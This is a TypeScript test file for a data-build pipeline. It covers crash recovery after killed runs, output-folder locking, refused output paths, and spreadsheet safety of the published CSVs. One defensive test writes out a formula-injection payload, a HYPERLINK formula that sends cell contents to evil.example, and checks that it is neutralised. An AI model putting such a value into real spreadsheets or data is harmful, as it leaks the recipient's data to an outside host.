import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildData } from '../../src/pipeline/build.ts';
import { removeStaging } from '../../src/pipeline/publish-dir.ts';
import { scratchDir } from '../scratch-dir.ts';

const tmp = scratchDir;
const run = (args: string[]) => spawnSync(process.execPath, ['scripts/build-data.ts', ...args], { encoding: 'utf8' });

/** True when `dir` is a whole published output: its manifest lists every file with the right checksum. */
function complete(dir: string): boolean {
  if (!existsSync(join(dir, 'manifest.json'))) return false;
  const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
  const files = [...manifest.tables.flatMap((t: { files: unknown[] }) => t.files), manifest.archive];
  return files.every(
    (f: { path: string; sha256: string }) =>
      existsSync(join(dir, f.path)) &&
      createHash('sha256')
        .update(readFileSync(join(dir, f.path)))
        .digest('hex') === f.sha256,
  );
}

describe('a run killed at any point never leaves a partial output where the build reads', () => {
  it('20 runs killed with SIGKILL at random moments; the next run recovers and clears what they left', async () => {
    const parent = tmp('killed');
    const out = join(parent, 'data');
    expect(run(['data/template', '--out', out]).status).toBe(0);
    // Moments spread over a whole run (≈ 0,4–1 s including start-up), the same on every test run.
    const delays = fc.sample(fc.integer({ min: 0, max: 1200 }), { numRuns: 20, seed: 42 });
    for (const delay of delays) {
      const child = spawn(process.execPath, ['scripts/build-data.ts', 'data/template', '--out', out], { stdio: 'ignore' });
      const exited = new Promise((r) => child.once('exit', r));
      await new Promise((r) => setTimeout(r, delay));
      child.kill('SIGKILL');
      await exited;
      // The folder the build reads is whole, or (killed between the two renames) absent with the whole previous one beside it.
      const previous = readdirSync(parent)
        .filter((f) => f.startsWith('data.old-'))
        .map((f) => join(parent, f));
      expect(complete(out) || (!existsSync(out) && previous.some(complete)), `killed after ${delay} ms`).toBe(true);
    }
    const last = run(['data/template', '--out', out]);
    expect(last.status, last.stderr).toBe(0);
    expect(complete(out)).toBe(true);
    expect(readdirSync(parent)).toEqual(['data']);
  }, 120_000);

  it('what killed runs left beside public/data is never copied into the built site', () => {
    const dist = tmp('dist');
    for (const f of ['data', 'data.tmp-4242', 'data.old-4242', 'data.lock', 'database']) mkdirSync(join(dist, f));
    expect(removeStaging(dist, 'data').sort()).toEqual(['data.lock', 'data.old-4242', 'data.tmp-4242']);
    expect(readdirSync(dist).sort()).toEqual(['data', 'database']);
  });
});

describe('one run at a time per output folder', () => {
  it('a second run stops with a clear message while the first holds the lock', () => {
    const out = join(tmp('locked'), 'data');
    mkdirSync(`${out}.lock`);
    writeFileSync(join(`${out}.lock`, 'pid'), String(process.pid));
    const second = run(['data/template', '--out', out]);
    expect(second.status).toBe(1);
    expect(second.stderr).toContain(`another run (process ${process.pid}) is publishing to ${out}`);
    expect(existsSync(out)).toBe(false);
  });
  it('the lock of a run that died is taken over', () => {
    const out = join(tmp('stale-lock'), 'data');
    mkdirSync(`${out}.lock`);
    writeFileSync(join(`${out}.lock`, 'pid'), '2147483646');
    expect(run(['data/template', '--out', out]).status).toBe(0);
    expect(existsSync(`${out}.lock`)).toBe(false);
  });
});

describe('outputs refused before anything is deleted', () => {
  it.each([
    ['the dataset folder itself', (d: string) => d],
    ['a folder above the dataset', (d: string) => join(d, '..')],
    ['a folder inside the dataset', (d: string) => join(d, 'out')],
  ])('%s', async (_, outOf) => {
    const dataset = join(tmp('ds'), 'province');
    cpSync('data/template', dataset, { recursive: true });
    const before = readdirSync(dataset).sort();
    const { manifest, issues } = await buildData(dataset, outOf(dataset));
    expect(manifest).toBeNull();
    expect(issues.at(-1)).toMatchObject({ rule: 'output_folder', column: '--out' });
    expect(readdirSync(dataset).sort()).toEqual(before);
  });
});

describe('published CSVs are safe to open in a spreadsheet', () => {
  it('a name written like a formula is neutralised in the CSV and kept as it is in Parquet', async () => {
    const dataset = join(tmp('formula'), 'province');
    cpSync('data/template', dataset, { recursive: true });
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Xã Một")';
    const units = readFileSync(join(dataset, 'units.csv'), 'utf8').replace('Xã Một', `"${hostile.replaceAll('"', '""')}"`);
    writeFileSync(join(dataset, 'units.csv'), units);
    const out = join(tmp('formula-out'), 'data');
    const { manifest, issues } = await buildData(dataset, out);
    expect(issues.filter((i) => i.severity === 'error')).toEqual([]);
    expect(manifest).not.toBeNull();
    const csv = readFileSync(join(out, 'csv', 'units.csv'), 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Xã Một"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const conn = await (await DuckDBInstance.create()).connect();
    const rows = (
      await conn.runAndReadAll(`SELECT unit_name FROM '${join(out, 'parquet', 'units.parquet')}' WHERE unit_code = '90001'`)
    ).getRowObjectsJS();
    expect(rows[0].unit_name).toBe(hostile);
    expect(readFileSync(join(out, 'csv', 'poverty.csv'), 'utf8')).toContain(`"'=HYPERLINK(`);
  });
});
